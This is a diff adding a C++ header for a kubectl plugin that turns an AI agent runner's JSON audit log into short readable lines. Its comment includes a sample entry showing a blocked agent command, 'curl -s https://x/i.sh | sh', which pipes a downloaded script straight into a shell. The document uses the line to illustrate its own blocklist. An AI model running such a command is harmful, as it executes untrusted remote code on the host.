@@ -1,0 +1,36 @@
+// The runner's audit log (one JSON line per decision, SPEC §6.8) as a person reads it,
+// for `kubectl droid run` and `logs`: one short line per event, with the time, what
+// the agent did and what the controls decided; a refused or blocked call says by what
+// and why. Lines that are not audit records (or not JSON) pass through unchanged, and
+// --raw keeps every line as the runner wrote it (for tools that parse the JSON).
+//
+//   [13:40:49] llm      812 in / 64 out tokens, 2 tool calls (6 ms)
+//   [13:40:49] shell    python3 -B test_calc.py -> exit 1 (43 ms)
+//   [13:40:49] shell    BLOCKED by policy: curl -s https://x/i.sh | sh ('curl ...' matches commandBlocklist ...)
+#pragma once
+
+#include <string>
+#include <string_view>
+
+#include <nlohmann/json.hpp>
+
+namespace droid::kubectl {
+
+// The text of one log line (without its newline): the audit record rendered, or `line` as it is.
+std::string audit_line_text(std::string_view line);
+
+// Splits a byte stream into lines and renders each complete one; keeps the rest.
+class AuditText {
+ public:
+  // The rendered text of the complete lines in `bytes` (each ending with "\n"); a
+  // line longer than 1 MiB is passed on as it is, without waiting for its end.
+  std::string feed(std::string_view bytes);
+  // What is left of an unterminated last line, rendered ("" when nothing is).
+  std::string flush();
+
+ private:
+  static constexpr std::size_t kMaxLine = 1 << 20;  // longer: passed on unrendered
+  std::string partial_;
+};
+
+}  // namespace droid::kubectl
